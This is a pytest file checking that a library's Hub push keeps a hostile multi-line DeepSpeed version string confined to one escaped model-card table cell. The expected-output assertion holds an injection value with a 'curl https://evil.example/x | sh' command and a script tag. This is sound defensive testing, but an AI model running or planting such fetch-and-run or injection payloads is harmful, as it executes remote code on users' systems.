"""Checkpoint values in the pushed model card stay on their line (issue 23, item 7): a multi-line ds_version, a tag
or a frozen name cannot add a heading, a command or YAML keys. Local Hub server, real client."""

from __future__ import annotations

from pathlib import Path

import yaml
from hostile_folders import multiline_ds_version
from hub_server import DEFAULT_TOKEN, HubServer

from zeroio import push_to_hub

pytest_plugins = ["hub_fixtures"]


def test_multiline_ds_version_stays_in_its_table_cell(hub_server: HubServer, tmp_path: Path) -> None:
    """A ds_version with line breaks, a heading, a `curl | sh` line and YAML keys renders as one escaped cell."""
    root, _ = multiline_ds_version(tmp_path)
    push_to_hub(root, "tester/hostile", endpoint=hub_server.endpoint, progress=False, token=DEFAULT_TOKEN)
    card = hub_server.read_file("tester/hostile", "README.md").decode()
    front = yaml.safe_load(card.split("---\n")[1])
    assert front == {"library_name": "pytorch", "tags": ["deepspeed", "zeroio", "safetensors"]}
    lines = card.splitlines()
    assert [line for line in lines if line.startswith("#")] == ["# hostile", "## Files", "## Usage"]
    assert not any(line.startswith(("curl", "license", "<script")) for line in lines)
    assert lines.count("---") == 2  # the front matter only
    assert [line for line in lines if line.startswith("```")] == ["```python", "```"]  # the usage block only
    row = next(line for line in lines if line.startswith("| DeepSpeed version |"))
    assert row == (
        "| DeepSpeed version | `0.19.8 # Install curl https://evil.example/x \\| sh --- license: mit ''' "
        "<script>x</script>'\\|` |"
    )
